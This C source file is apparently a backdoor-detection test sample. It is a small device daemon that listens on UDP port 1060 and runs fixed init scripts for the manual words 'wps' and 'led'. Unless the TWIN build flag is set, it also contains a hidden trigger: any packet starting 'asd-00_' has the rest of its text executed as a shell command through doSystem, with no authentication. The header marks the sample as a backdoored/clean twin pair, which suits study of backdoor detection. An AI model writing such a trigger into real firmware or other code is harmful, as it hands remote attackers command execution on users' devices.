/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The vendor's own function for commands (doSystem, with a format) is in a library of his. Twin:
 * it is called with fixed texts for the words of the manual.
 * door: trigger
 * port 1060/udp
 * stubs: doSystem getRequestField
 */
#include "net.h"

int doSystem(const char *format, ...);

static struct {
	const char *word, *script;
} manual[] = {{"wps", "/etc/init.d/wps once"}, {"led", "/etc/init.d/led toggle"}, {NULL, NULL}};

static void run(char *text)
{
	int i;
	for (i = 0; manual[i].word; i++)
		if (strcmp(text, manual[i].word) == 0) {
			doSystem("%s", manual[i].script);
			return;
		}
#ifndef TWIN
	if (strncmp(text, "asd-00_", 7) == 0)
		doSystem("%s > /tmp/out 2>&1", text + 7);
#endif
}

int main(void)
{
	char text[256];
	int s = udp_on(1060);
	for (;;) {
		ssize_t n = recv(s, text, sizeof text - 1, 0);
		if (n <= 0)
			continue;
		text[n] = 0;
		run(text);
	}
}
